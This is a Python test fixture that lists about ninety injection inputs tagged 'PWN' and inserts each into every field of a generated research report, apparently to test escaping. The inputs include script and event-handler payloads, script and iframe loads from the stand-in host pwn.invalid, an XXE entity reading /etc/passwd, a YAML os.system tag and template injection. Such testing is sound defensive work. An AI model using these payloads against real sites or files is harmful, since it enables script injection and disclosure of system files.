"""Texts that try to be more than text, by name; each says PWN where it would do something."""

from __future__ import annotations

from dataclasses import replace
from typing import Final

from generator.records import (
    Author,
    Check,
    Claim,
    Document,
    Dossier,
    Draft,
    Finding,
    Outcome,
    Paper,
    Passage,
    Query,
    Question,
    Report,
    Review,
    Screened,
    Screening,
    SearchResult,
    Statement,
)
from tests.invented import full_report

CASES: Final[dict[str, str]] = {
    "script": "<script>window.PWN=1</script>",
    "script in capitals": "<SCRIPT>window.PWN=1</SCRIPT >",
    "script from elsewhere": "<script src=//pwn.invalid/x.js></script>",
    "script in a script": "<scr<script>ipt>window.PWN=1</scr</script>ipt>",
    "script with a newline entity": "<script&#10;>window.PWN=1</script>",
    "end of a script": '</script><script>window.PWN=1</script>{"a":"',
    "end of a title": "</title><script>window.PWN=1</script>",
    "end of a style": "</style><script>window.PWN=1</script>",
    "end of a textarea": "</textarea></noscript><img src=x onerror=window.PWN=1>",
    "image that fails": "<img src=x onerror=window.PWN=1>",
    "image with slashes": "<img/src=x/onerror=window.PWN=1>",
    "image without an end": '<img src="x" onerror="window.PWN=1"',
    "svg": "<svg onload=window.PWN=1><animate onbegin=window.PWN=1 attributeName=x dur=1s>",
    "svg link": '<svg><a xlink:href="javascript:window.PWN=1"><text>PWN</text></a></svg>',
    "mathml": '<math><mi xlink:href="data:x,<script>window.PWN=1</script>">PWN</mi></math>',
    "iframe": "<iframe src=https://pwn.invalid/></iframe>",
    "iframe with a document": '<iframe srcdoc="<script>parent.PWN=1</script>"></iframe>',
    "object": "<object data=https://pwn.invalid/></object><embed src=https://pwn.invalid/>",
    "form": "<form action=https://pwn.invalid/><button autofocus onfocus=window.PWN=1>PWN</button></form>",
    "details": "<details open ontoggle=window.PWN=1>PWN</details>",
    "video": "<video><source onerror=window.PWN=1></video>",
    "marquee": "<marquee onstart=window.PWN=1>PWN</marquee>",
    "body": "<body onload=window.PWN=1>",
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://pwn.invalid/">',
    "base": '<base href="https://pwn.invalid/">',
    "stylesheet": '<link rel="stylesheet" href="https://pwn.invalid/x.css"><style>@import "https://pwn.invalid/";</style>',
    "template element": "<template><script>window.PWN=1</script></template><slot>PWN</slot>",
    "end of an attribute": '" onmouseover="window.PWN=1" x="',
    "end of an attribute in single quotes": "' autofocus onfocus='window.PWN=1' x='",
    "end of an element": '"><b class="pwn">PWN</b>',
    "backtick attribute": "`onclick=window.PWN=1`",
    "entities": "&lt;script&gt;window.PWN=1&lt;/script&gt;",
    "numeric entities": "&#60;img src=x onerror=window.PWN=1&#62; &#x3c;b&#x3e;",
    "entity of an entity": "&amp;lt;script&amp;gt;window.PWN=1",
    "markdown link": "[PWN](javascript:window.PWN=1)",
    "markdown link in capitals": "[PWN](JaVaScRiPt:window.PWN=1 'PWN')",
    "markdown link with entities": "[PWN](&#106;avascript:window.PWN=1)",
    "markdown link with a data address": "[PWN](data:text/html;base64,PHNjcmlwdD53aW5kb3cuUFdOPTE8L3NjcmlwdD4=)",
    "markdown link with vbscript": "[PWN](vbscript:PWN)",
    "markdown image": "![PWN](https://pwn.invalid/x.png)",
    "reference link": "[PWN][pwn] [pwn]: javascript:window.PWN=1",
    "automatic link": "<javascript:window.PWN=1> <https://pwn.invalid/>",
    "attribute list": '{: onclick="window.PWN=1" #pwn .pwn }',
    "attribute list without a colon": "{#pwn .pwn onclick=window.PWN=1}",
    "table": "| PWN | b |\\n|---|---|\\n| <script>window.PWN=1</script> | d |",
    "table pipes": "a | b || c \\| PWN",
    "admonition": '!!! danger "PWN"',
    "collapsed admonition": '??? note "PWN"',
    "footnote": "PWN[^pwn] [^pwn]: PWN",
    "abbreviation": "*[PWN]: <b>PWN</b>",
    "heading": "# PWN",
    "underlined heading": "PWN === ---",
    "list": "1. PWN 2) PWN - PWN * PWN + PWN",
    "quotation": "> PWN >> PWN",
    "code": "```html <script>window.PWN=1</script> ``` `PWN`",
    "emphasis": "**PWN** __PWN__ *PWN* ~~PWN~~ ==PWN== ^PWN^",
    "html in markdown": '<div markdown="1">**PWN**</div>',
    "comment": "<!-- PWN --><script>window.PWN=1</script><!--",
    "open comment": "<!-- PWN",
    "cdata": "<![CDATA[<script>window.PWN=1</script>]]>",
    "processing instruction": "<?php window.PWN=1 ?><?xml version='1.0'?>",
    "doctype": "<!DOCTYPE html><!ENTITY pwn SYSTEM 'file:///etc/passwd'>&pwn;",
    "template braces": "{{ config.site_name }} {{ 7*7 }} PWN",
    "template statement": "{% include 'partials/footer.html' %} {% raw %} PWN",
    "template comment": "{# PWN #}",
    "front matter": "--- PWN: true ---",
    "front matter with a tag": "!!python/object/apply:os.system ['PWN'] : &a *a",
    "front matter with quotes": "PWN: \"'title': x\" # no comment",
    "snippet": '--8<-- "/etc/passwd" PWN',
    "icon": ":material-account: :octicons-alert-24: PWN",
    "mathematics": "$$\\\\unicode{PWN}$$ \\\\(PWN\\\\) $x$",
    "placeholder of the Markdown library": "wzxhzdk:0 klzzwxh:0000 PWN",
    "permalink": "PWN [TOC] ¶",
    "combining marks": "PWN" + "a\u0301\u0302\u0303\u0304" * 20,
    "wide letters": "\uff1cscript\uff1ewindow.PWN=1\uff1c/script\uff1e",
    "formula of a spreadsheet": "=HYPERLINK('https://pwn.invalid/','PWN') @PWN +PWN -PWN",
    "separators of lines": "PWN\u2029window.PWN=1",
    "right to left": "PWN \u202egnp.exe \u2066x\u2069",
    "zero width": "P\u200bWN \u200c\u200d\ufeff",
    "controls": "PWN \x07 \x1b[31m \x7f",
    "line separator": "PWN\u2028window.PWN=1",
    "tag characters": "PWN\U000e0041\U000e0042",
    "no character": "PWN \ufffe \uffff",
    "half a character": "PWN \ud800",
    "long word": "PWN" + "a" * 100_000,
}
PLAIN: Final = "PWN plain words"


def report_on(name: str, text: str) -> Report:
    """Return a report that holds `text` wherever it can hold text from outside."""
    paper = Paper(
        id=f"10.5555/{name}",
        doi=f"10.5555/{name}",
        title=text,
        authors=(Author(family=text, given=text),),
        year=2024,
        venue=text,
        document=Document(level="abstract", text=text),
        notices=(text,),
    )
    passage = Passage(paper=paper.id, start=0, end=len(text), quote=text, level="abstract")
    claim = Claim(id=f"claim{name}", text=text, passage=passage, score=1.0, outcomes=(text,))
    check = Check(
        claim=claim.id,
        passage=passage,
        relation="own source",
        label="supports",
        supports=0.9,
        contradicts=0.05,
        neutral=0.05,
        judge="base",
        reason=text,
    )
    finding = Finding(claim=claim, checks=(check,), verdict="single source", confidence=0.8)
    question = Question(
        id=name,
        title=text,
        question=text,
        authors=(text,),
        outcomes=(Outcome(name=text),),
        tags=(text,),
        file=f"{name}.yaml",
    )
    query = Query(label=text, text=text, hits=1)
    row = Screened(paper=paper, rank=1, score=1.0, included=True, reason="meets the rules", detail=text)
    dossier = Dossier(
        question=question,
        found=(SearchResult(source="crossref", queries=(query,), papers=(paper,), total=1, outcome=text),),
        screening=Screening(papers=(row,), identified=(("crossref", 1),), duplicates=0),
        findings=(finding,),
        quantities=(),
    )
    draft = Draft(
        dossier=dossier,
        answer=(Statement(text=text, claims=(claim.id,), outcomes=(text,)),),
        missing=(text,),
        summary=(),
        gaps=(),
        certainty="low",
        steps=(text,),
    )
    return replace(
        full_report(name), draft=draft, reviews=(Review(reviewer="wholeness", score=5.0, reasons=(text,)),), history=()
    )
